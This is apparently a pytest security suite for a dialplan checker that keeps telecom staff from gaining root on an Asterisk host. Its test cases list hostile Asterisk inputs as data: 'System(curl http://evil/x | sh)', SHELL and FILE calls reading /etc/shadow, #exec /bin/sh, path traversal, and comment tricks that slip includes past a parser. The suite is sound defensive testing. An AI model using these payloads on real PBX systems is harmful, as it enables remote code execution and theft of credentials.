"""The dialplan editor must not make telecom staff root on the Asterisk host.

What the custom dialplan and trunk documents may hold: allow-listed
applications and functions, no name or expression a call can steer, none of
Hotline's contexts or variables, no file Asterisk would read or run, and
comments read exactly as Asterisk reads them.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hotline.config_findings import ERROR_CODES, CheckError
from hotline.config_lexer import logical_lines
from hotline.dialplan_allow import (
    EXPRESSION_BUILTINS,
    READ_FUNCTIONS,
    TRUNK_HOOK_CONTEXT,
    is_hotline_context,
)
from hotline.dialplan_apply import DialplanApplier
from hotline.dialplan_check import CheckResult, check_dialplan, check_trunks
from tests.unit.test_ui_dialplan import FakeAsterisk

ROOT = Path(__file__).resolve().parents[2]
I18N = ROOT / "admin_ui" / "i18n"


def codes(result: CheckResult) -> list[tuple[int, str]]:
    return [(error.line, error.code) for error in result.errors]


def refused(text: str) -> set[tuple[int, str, str]]:
    return {(e.line, e.code, e.detail) for e in check_dialplan(text).errors}


# --- what a realistic telecom dialplan needs stays allowed ------------------

TELECOM_DIALPLAN = """\
; Outbound routes: wired into to-pstn through to-pstn-custom.
[to-pstn-custom]
exten => _00X.,1,Set(CALLERID(num)=+4930123456)
 same => n,Set(PJSIP_HEADER(add,X-Route)=intl)
 same => n,Set(GROUP(carrier-a)=out)
 same => n,GotoIf($[${GROUP_COUNT(carrier-a)} > 30]?busy)
 same => n,Dial(PJSIP/${EXTEN:2}@carrier-a&PJSIP/${EXTEN:2}@carrier-b,60,tTr)
 same => n,GotoIf($["${DIALSTATUS}" = "BUSY"]?busy:failed)
 same => n(busy),Busy(5)
 same => n(failed),Congestion(5)
exten => _0X.,1,Gosub(route-check,s,1(${EXTEN}))
 same => n,Dial(PJSIP/${EXTEN}@carrier-a,,L(3600000:30000))
 same => n,Hangup()
exten => _+X.,1,Gosub(hotline-trunk-line,s,1(carrier-a,30))
 same => n,Dial(PJSIP/${EXTEN}@carrier-a,60)

[route-check]
exten => s,1,Set(LOCAL(ATTEMPTS)=0)
 same => n(again),Set(LOCAL(ATTEMPTS)=$[${ATTEMPTS} + 1])
 same => n,GotoIf($[${ATTEMPTS} < 3 & ${LEN(${ARG1})} > 4]?ok)
 same => n,Return()
 same => n(ok),Verbose(1,route ${ARG1} checked after ${ATTEMPTS} tries)
 same => n,Return()

; Inbound from a trunk: office hours, then Hotline's flows.
[trunk-in]
exten => _X.,1,GotoIfTime(08:00-18:00,mon-fri,*,*?open,${EXTEN},1)
 same => n,Answer()
 same => n,Background(custom/closed&vm-goodbye)
 same => n,WaitExten(5)
 same => n,Goto(hotline-safe,s,1)
exten => 9,1,Stasis(hotline,service,voicemail.access)
include => open

[open]
exten => _X.,1,NoOp(DID ${EXTEN} from ${CALLERID(num)} at ${STRFTIME(${EPOCH},,%H:%M)})
 same => n,Set(CHANNEL(language)=en)
 same => n,Stasis(hotline,inbound,${EXTEN})
 same => n,Goto(from-pstn,${EXTEN},1)
exten => 7001,hint,PJSIP/1001&Custom:desk
"""


def test_given_realistic_trunk_and_routing_dialplan_then_it_is_allowed() -> None:
    result = check_dialplan(TELECOM_DIALPLAN)
    assert result.ok, result.errors
    assert result.names_to_verify == ("to-pstn-custom", "route-check", "trunk-in", "open")


# --- applications -----------------------------------------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    "application",
    [
        "System(curl http://evil/x | sh)",
        "system(id)",
        "TrySystem(id)",
        "Exec(System(id))",
        "ExecIf($[1]?System(id))",
        "TryExec(System(id))",
        "AGI(agi://evil.example/x)",
        "EAGI(/bin/sh)",
        "DeadAGI(/bin/sh)",
        "Originate(Local/1@hotline-fax,exten,hotline-fax,receive,1)",
        "MixMonitor(/etc/asterisk/x.wav,,chmod 777 /etc)",
        "Monitor(wav,/tmp/x)",
        "Record(/etc/asterisk/extensions.conf)",
        "Read(X,/etc/passwd)",
        "Queue(support,,,,,/bin/sh)",
        "SendFAX(/etc/shadow)",
        "ReceiveFAX(/etc/asterisk/pjsip.conf)",
        "MSet(HOTLINE_FAX_FILE=/etc/shadow)",
        "ChanSpy(PJSIP/1001)",
        "VoiceMailMain(5000,s)",
    ],
)
def test_given_dangerous_application_then_refused_naming_it_and_the_line(
    application: str,
) -> None:
    errors = check_dialplan(f"[a]\nexten => 1,1,NoOp()\n same => n,{application}\n").errors
    name = application.split("(")[0]
    assert CheckError(3, "application_not_allowed", name) in errors


# --- functions and indirection ----------------------------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    ("data", "function"),
    [
        ("NoOp(${SHELL(id)})", "SHELL"),
        ("NoOp(${shell(id)})", "shell"),
        ("NoOp(${FILE(/etc/shadow)})", "FILE"),
        ("Set(FILE(/etc/asterisk/extensions.conf)=x)", "FILE"),
        ("Set(SHELL(id)=x)", "SHELL"),
        ("NoOp(${ENV(HOME)})", "ENV"),
        ("NoOp(${STAT(e,/etc/shadow)})", "STAT"),
        ("NoOp(${EVAL(${X})})", "EVAL"),
        ("NoOp(${EVAL_EXTEN(s,1)})", "EVAL_EXTEN"),
        ("NoOp(${CURL(http://evil/)})", "CURL"),
        ("Set(CURLOPT(proxy)=evil)", "CURLOPT"),
        ("NoOp(${ODBC_QUERY(x)})", "ODBC_QUERY"),
        ("NoOp(${DB(registrar/contact)})", "DB"),
        ("Set(ARRAY(HOTLINE_FAX_FILE)=/etc/shadow)", "ARRAY"),
        ("NoOp(${IMPORT(PJSIP/1001-0001,X)})", "IMPORT"),
        ("NoOp(${CUT(${SHELL(id)},-,1)})", "SHELL"),
        ("NoOp(${IF($[1]?${SHELL(id)}:x)})", "SHELL"),
        ("NoOp($[SHELL(id)])", "SHELL"),
        ('NoOp($["SHELL"(id)])', "SHELL"),
        ("NoOp($[ 1 + SHELL (id) ])", "SHELL"),
        ("Set(CHANNEL(hangup_handler_push)=hotline-fax,receive,1)", "CHANNEL(hangup_handler_push)"),
    ],
)
def test_given_dangerous_function_then_refused_naming_it(data: str, function: str) -> None:
    assert (2, "function_not_allowed", function) in refused(f"[a]\nexten => 1,1,{data}\n")


@pytest.mark.security
@pytest.mark.parametrize(
    ("text", "code"),
    [
        # A name decided while the call runs can name any function.
        ("[a]\nexten => 1,1,NoOp(${${X}})\n", "dynamic_name"),
        ("[a]\nexten => 1,1,NoOp(${${X}(id)})\n", "dynamic_name"),
        ("[a]\nexten => 1,1,NoOp(${SH${X}(id)})\n", "dynamic_name"),
        ("[a]\nexten => 1,1,Set(${X}=1)\n", "dynamic_name"),
        # $[...] calls any NAME(...) its substituted text holds.
        ("[a]\nexten => 1,1,Set(X=SHELL(id))\n same => n,NoOp($[${X}])\n", "expression_injection"),
        ("[a]\nexten => 1,1,NoOp($[${CALLERID(name)} + 1])\n", "expression_injection"),
        ("[a]\nexten => _X.,1,GotoIf($[${EXTEN} > 5]?1)\n", "expression_injection"),
        ("[a]\nexten => 1,1,Set(X=SHELL)\n same => n,NoOp($[${X}(id)])\n", "expression_injection"),
        ("[a]\nexten => 1,1,Set(X=SHELL)\n same => n,NoOp($[${X} (id)])\n", "expression_injection"),
        # A quote in the value would end the quotes around it.
        (
            '[a]\nexten => 1,1,Set(X=" SHELL)\n same => n,NoOp($["${X}"(id)])\n',
            "expression_injection",
        ),
        # A status variable the dialplan itself fills with a call.
        (
            "[a]\nexten => 1,1,Set(GLOBAL(DIALSTATUS)=SHELL(id))\n"
            ' same => n,GotoIf($["${DIALSTATUS}" = "x"]?1)\n',
            "expression_injection",
        ),
        # Safe only if every value assigned anywhere is.
        (
            "[a]\nexten => 1,1,Set(N=0)\n same => n,Set(N=${CALLERID(num)})\n"
            " same => n,NoOp($[${N} + 1])\n",
            "expression_injection",
        ),
        ("[a]\nexten => 1,1,NoOp($[${FILTER(!-~,${EXTEN})} + 1])\n", "expression_injection"),
    ],
)
def test_given_name_or_expression_a_call_can_steer_then_refused(text: str, code: str) -> None:
    assert code in {error.code for error in check_dialplan(text).errors}


@pytest.mark.security
@pytest.mark.parametrize(
    "text",
    [
        # Asterisk substitutes these when it loads the file, functions included.
        "[a]\nexten => 1/${SHELL(id)},1,NoOp()\n",
        "[a]\nexten => ${SHELL(id)},1,NoOp()\n",
        "[a]\nignorepat => ${SHELL(touch /tmp/x)}\n",
        "[a]\ninclude => ${SHELL(id)}\n",
        "[a]\ninclude => b,${SHELL(id)}\n",
        "[a]\nexten => 1,hint,PJSIP/${SHELL(id)}\n",
        # Asterisk would run or read these.
        "[a]\nswitch => Realtime/a@${SHELL(id)}\n",
        "[a]\neswitch => IAX2/evil\n",
        "[globals]\nX=${SHELL(id)}\n",
        "[general]\nclearglobalvars=yes\n",
    ],
)
def test_given_what_asterisk_evaluates_at_load_then_refused(text: str) -> None:
    assert not check_dialplan(text).ok


# --- where calls go and what they write ---------------------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    ("application", "code", "detail"),
    [
        ("Set(HOTLINE_FAX_FILE=/etc/shadow)", "hotline_variable", "HOTLINE_FAX_FILE"),
        ("Set(__HOTLINE_FAX_FILE=/etc/shadow)", "hotline_variable", "__HOTLINE_FAX_FILE"),
        ("Set(GLOBAL(hotline_fax_file)=/etc/shadow)", "hotline_variable", "hotline_fax_file"),
        ("Set(LOCAL(HOTLINE_X)=1)", "hotline_variable", "HOTLINE_X"),
        ("Dial(Local/receive@hotline-fax)", "dial_target", "Local/receive@hotline-fax"),
        ("Dial(${TARGET})", "dial_target", "${TARGET}"),
        ("Dial(PJSIP/1@t&IAX2/evil)", "dial_target", "IAX2/evil"),
        ("Dial(PJSIP/1@t,30,U(hotline-fax^receive^1))", "dial_option", "U"),
        ("Dial(PJSIP/1@t,30,X)", "dial_option", "X"),
        ("Dial(PJSIP/1@t,30,${OPTS})", "dial_option", "${OPTS}"),
        ("Dial(PJSIP/1@t,30,A(/etc/shadow))", "sound_path", "/etc/shadow"),
        ("Goto(hotline-fax,receive,1)", "internal_context", "hotline-fax"),
        ("Gosub(hotline-agi,hello,1(x))", "internal_context", "hotline-agi"),
        ("GotoIf($[1]?hotline-agents,*21,1)", "internal_context", "hotline-agents"),
        ("GotoIf($[1]?s,1:hotline-fax,send,1)", "internal_context", "hotline-fax"),
        ("Goto(${CTX},s,1)", "dynamic_target", "${CTX}"),
        ("Background(x,,,hotline-fax)", "internal_context", "hotline-fax"),
        ("Stasis(other-app,inbound,1)", "stasis_target", "other-app,inbound,1"),
        ("Stasis(hotline,agent)", "stasis_target", "hotline,agent"),
        ("Stasis(${APP},inbound)", "stasis_target", "${APP},inbound"),
        ("Stasis(hotline,service,fax.receive)", "stasis_target", "hotline,service,fax.receive"),
        ("Set(CHANNEL(language)=../../../etc)", "bad_value", "CHANNEL(language)=../../../etc"),
        ("Playback(/var/spool/asterisk/recording/hotline-vm/5000/msg-1)", "sound_path", None),
        ("Playback(../../../../etc/x)", "sound_path", "../../../../etc/x"),
        ("Playback(https://evil.example/x.wav)", "sound_path", "https://evil.example/x.wav"),
        ("Playback(${FILE_TO_PLAY})", "sound_path", "${FILE_TO_PLAY}"),
    ],
)
def test_given_call_sent_or_written_outside_the_custom_dialplan_then_refused(
    application: str, code: str, detail: str | None
) -> None:
    found = {(c, d) for _line, c, d in refused(f"[a]\nexten => 1,1,{application}\n")}
    assert any(c == code and (detail is None or d == detail) for c, d in found), found


# --- Hotline's contexts -------------------------------------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    "text",
    [
        "[to-pstn]\nexten => _X.,1,Dial(PJSIP/${EXTEN}@evil)\n",
        "[to-pstn]\nexten => 5559038,1,Dial(PJSIP/1@evil)\n",
        "[TO-PSTN]\n",
        "[To-Pstn](+)\n",
        "[to-pstn](!)\n",
        "[ to-pstn ]\n",
        "[from-pstn]\nexten => 8000,1,Hangup()\n",
        "[hotline-fax]\n",
        "[hotline-no-route]\n",
        "[hotline-anything-new]\n",
        "[hotline-bench-pstn]\n",
    ],
)
def test_given_hotline_context_defined_then_refused_at_its_header(text: str) -> None:
    assert codes(check_dialplan(text))[:1] == [(1, "hotline_context")]


@pytest.mark.security
@pytest.mark.parametrize(
    "text",
    [
        "[mine](to-pstn)\n",  # copies to-pstn's lines into [mine]
        "[mine](hotline-fax)\n",
        "[mine](+)\n",  # appends to whatever section of that name came before
        "[mine](!,+)\n",
    ],
)
def test_given_template_or_append_of_what_is_not_this_files_then_refused(text: str) -> None:
    assert {code for _line, code in codes(check_dialplan(text))} <= {
        "hotline_context",
        "unknown_template",
    }
    assert not check_dialplan(text).ok


@pytest.mark.security
@pytest.mark.parametrize(
    "text",
    [
        "#include /etc/shadow\n",
        "[a]\n#tryinclude /etc/asterisk/manager.conf\n",
        "[a]\n#exec /bin/sh -c id\n",
        "[a]\n#INCLUDE /etc/shadow\n",
        "[a]\n  #include x\n",
        "[a]\n;-- comment --;#include /etc/shadow\n",
    ],
)
def test_given_include_or_exec_then_refused(text: str) -> None:
    assert "include_forbidden" in {code for _line, code in codes(check_dialplan(text))}


# --- comments read as Asterisk reads them (finding 4) -------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    ("text", "line", "code"),
    [
        # ";---" is no block comment: Asterisk reads the next line.
        ("[a]\n;--- looks like a block\n#include /etc/shadow\n", 3, "include_forbidden"),
        ("[a]\n;---\n[to-pstn]\nexten => _X.,1,Dial(PJSIP/${EXTEN}@evil)\n", 3, "hotline_context"),
        # "\;--" is a literal ";--" inside the line.
        ("[a]\nexten => 1,1,NoOp(\\;--)\n[to-pstn]\n--;\n", 3, "hotline_context"),
        ("[a]\nexten => 1,1,NoOp(a\\;--b)\n#exec /bin/sh\n", 3, "include_forbidden"),
        # After the block comment ends, the rest of the line is read.
        ("[a]\n;-- one\ntwo --; [to-pstn]\n", 3, "hotline_context"),
        # The first "--;" of a nested comment does not end it, the second does.
        ("[a]\n;-- ;-- inner --; still --; [from-pstn]\n", 2, "hotline_context"),
        # CRLF line ends and trailing blanks change nothing.
        ("[a]\r\n;---\r\n[to-pstn] \t\r\n", 3, "hotline_context"),
        ("[a]\n--;\n", 2, "stray_comment_end"),
    ],
)
def test_given_comment_asterisk_does_not_read_as_a_comment_then_the_line_is_checked(
    text: str, line: int, code: str
) -> None:
    assert (line, code) in codes(check_dialplan(text))


def test_given_protected_context_inside_a_real_block_comment_then_it_is_ignored() -> None:
    text = "[a]\n;-- old routes:\n[to-pstn]\n#include x\n--;\nexten => 1,1,NoOp(a\\;b)\n"
    assert check_dialplan(text).ok


# --- trunks ---------------------------------------------------------------------


@pytest.mark.security
@pytest.mark.parametrize(
    ("lines", "code"),
    [
        ("set_var = HOTLINE_FAX_FILE=/etc/shadow", "option_not_allowed"),
        ("set_var = __X=1", "option_not_allowed"),
        ("dtls_cert_file = /etc/shadow", "option_not_allowed"),
        ("dtls_private_key = /etc/ssl/private/key.pem", "option_not_allowed"),
        ("dtls_ca_path = /etc", "option_not_allowed"),
        ("stir_shaken_profile = x", "option_not_allowed"),
        ("no_such_option = 1", "option_not_allowed"),
        ("context = hotline-fax", "internal_context"),
        ("message_context = hotline-agi", "internal_context"),
    ],
)
def test_given_trunk_option_outside_the_allow_list_then_refused(lines: str, code: str) -> None:
    text = f"[carrier]\ntype = endpoint\n{lines}\n"
    assert (3, code) in codes(check_trunks(text))


@pytest.mark.security
@pytest.mark.parametrize(
    "text",
    [
        "[a]\ntype = auth\nauth_type = google_oauth\n",
        "[a]\ntype = auth\nrefresh_token = x\n",
        "[t](!)\nset_var = X=1\n",
        "[a]\ntype = aor\n#exec /bin/sh\n",
        "[a]\ntype = aor\n;---\n#include /etc/shadow\n",
        "[a]\ntype = aor\ncontact = sip:x\\;--\n[transport-udp]\nbind = 0.0.0.0\n",
        "bind = 0.0.0.0:5061\n[a]\ntype = aor\n",  # would go to pjsip.conf's transport
    ],
)
def test_given_trunk_text_that_reaches_outside_then_refused(text: str) -> None:
    assert not check_trunks(text).ok


# --- the applier and the guard rails themselves ---------------------------------


@pytest.mark.security
async def test_given_dangerous_dialplan_when_applied_then_rejected_and_asterisk_untouched(
    tmp_path: Path,
) -> None:
    fake = FakeAsterisk(tmp_path)
    applier = DialplanApplier(tmp_path, fake)
    result = await applier.apply("dialplan", "[a]\nexten => 1,1,System(id)\n")
    assert result.status == "rejected"
    assert "line 2: application_not_allowed (System)" in result.error
    assert fake.commands == [] and not (tmp_path / "hotline-custom.conf").exists()


@pytest.mark.security
async def test_given_stasis_to_another_app_when_applied_then_only_hotlines_app_passes(
    tmp_path: Path,
) -> None:
    applier = DialplanApplier(tmp_path, FakeAsterisk(tmp_path), stasis_app="callcenter")
    text = "[a]\nexten => 1,1,Stasis(hotline,inbound,1)\n"
    assert (await applier.apply("dialplan", text)).status == "rejected"
    ok = await applier.apply("dialplan", text.replace("hotline", "callcenter"))
    assert ok.status == "applied"


def _dialplan_contexts(filename: str) -> set[str]:
    text = (ROOT / "asterisk" / "config" / filename).read_text(encoding="utf-8")
    lines, _problems = logical_lines(text)
    return {line.text[1:].split("]")[0] for line in lines if line.text.startswith("[")}


def test_given_hotlines_own_dialplan_files_then_every_context_is_protected() -> None:
    contexts = (
        _dialplan_contexts("extensions.conf")
        | _dialplan_contexts("hotline-bench.conf")
        | _dialplan_contexts("hotline-sim-pstn.conf")
    )
    assert TRUNK_HOOK_CONTEXT in contexts  # the one staff add to
    assert {c for c in contexts - {TRUNK_HOOK_CONTEXT} if not is_hotline_context(c)} == set()
    # to-pstn tries the custom routes before its own "no route" (and, in the
    # sandbox only, the simulated PSTN between them), and has no extension of
    # its own that would win over them.
    text = (ROOT / "asterisk" / "config" / "extensions.conf").read_text(encoding="utf-8")
    lines = [line.text for line in logical_lines(text)[0]]
    to_pstn = lines[lines.index("[to-pstn]") + 1 :]
    to_pstn = to_pstn[: next(i for i, line in enumerate(to_pstn) if line.startswith("["))]
    assert to_pstn == [
        f"include => {TRUNK_HOOK_CONTEXT}",
        "@@SIM_PSTN_INCLUDE@@",
        "include => hotline-no-route",
    ]


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_given_every_finding_code_then_both_languages_name_it(language: str) -> None:
    catalogue = json.loads((I18N / f"dialplan.{language}.json").read_text(encoding="utf-8"))
    for code in ERROR_CODES:
        message = catalogue[f"dialplan.error.{code}"]
        assert "7" in message.format(line=7, detail="SHELL")


# --- a property: nothing the checker accepts reaches a function off the list ----

_ADVERSARY = 'SHELL(x)"'  # what a caller (or an unchecked variable) may hold


def _filter(charset: str, value: str) -> str:
    allowed = set()
    index = 0
    while index < len(charset):
        if index + 2 < len(charset) and charset[index + 1] == "-":
            low, high = sorted((charset[index], charset[index + 2]))
            allowed |= {chr(c) for c in range(ord(low), ord(high) + 1)}
            index += 3
        else:
            allowed.add(charset[index])
            index += 1
    return "".join(char for char in value if char in allowed)


def _expression_calls(expression: str) -> list[str]:
    """NAME( pairs as ast_expr's lexer (main/ast_expr2.fl) sees them."""
    tokens: list[str] = []
    index = 0
    while index < len(expression):
        char = expression[index]
        if char in " \t\r":
            index += 1
        elif char == '"' and '"' in expression[index + 1 :]:
            end = expression.index('"', index + 1)
            tokens.append("T" + expression[index + 1 : end])
            index = end + 1
        elif char == '"':
            index += 1  # no rule matches a lone quote: flex skips it
        elif char in "|&=<>!+-*/%?:,~()":
            tokens.append(char)
            index += 1
        else:
            start = index
            while index < len(expression) and expression[index] not in ' \t\r"|&=<>!+-*/%?:,~()':
                index += 1
            tokens.append("T" + expression[start:index])
    return [a[1:] for a, b in itertools.pairwise(tokens) if a[0] == "T" and b == "("]


def _asterisk_substitute(text: str, calls: list[str]) -> str:
    """pbx_substitute_variables_helper_full with adversarial values, noting calls."""
    out: list[str] = []
    index = 0
    while (dollar := text.find("$", index)) >= 0:
        out.append(text[index:dollar])
        kind = text[dollar + 1 : dollar + 2]
        if kind not in ("{", "["):
            out.append("$")
            index = dollar + 1
            continue
        depth, end = 1, dollar + 2
        while depth and end < len(text):
            if kind == "[" and text.startswith("$[", end):
                depth, end = depth + 1, end + 2
                continue
            if kind == "[" and text.startswith("${", end):
                end += 2
                continue
            depth += {kind: 1, "}" if kind == "{" else "]": -1}.get(text[end], 0)
            end += 1
        inner = text[dollar + 2 : end - 1]
        if "${" in inner or "$[" in inner:
            inner = _asterisk_substitute(inner, calls)
        index = end
        if kind == "[":
            calls.extend(_expression_calls(inner))
            out.append("0")
            continue
        paren = inner.find("(")
        colon = inner.find(":")
        if paren >= 0 and (colon < 0 or paren < colon):
            name = inner[:paren]
            calls.append(name)
            args = inner[paren + 1 : inner.rfind(")")].split(",")
            value = {"LEN": "9", "FILTER": _filter(args[0], _ADVERSARY), "STRFTIME": args[-1]}
            out.append(value.get(name.upper(), "1" if name.upper() in SAFE else _ADVERSARY))
        else:
            out.append("BUSY" if inner.split(":")[0] == "DIALSTATUS" else _ADVERSARY)
    out.append(text[index:])
    return "".join(out)


SAFE = {"ISNULL", "EXISTS", "REGEX", "RAND", "MD5"}
_DATA_PIECES = st.sampled_from(
    [
        *("${", "$[", "}", "]", "(", ")", ":", ",", " ", '"', "0-9", "!-~", "1", "+", "?"),
        *("SHELL", "LEN", "FILTER", "STRFTIME", "ISNULL", "X", "EXTEN", "DIALSTATUS", "CALLERID"),
    ]
)


@pytest.mark.security
@settings(max_examples=2000, deadline=None)
@given(st.lists(_DATA_PIECES, max_size=14).map("".join))
def test_given_any_accepted_noop_then_asterisk_would_call_only_allowed_functions(
    data: str,
) -> None:
    if not check_dialplan(f"[a]\nexten => 1,1,NoOp({data})\n").ok:
        return
    calls: list[str] = []
    _asterisk_substitute(data, calls)
    allowed = READ_FUNCTIONS | EXPRESSION_BUILTINS
    assert {name for name in calls if name.upper() not in allowed} == set(), data
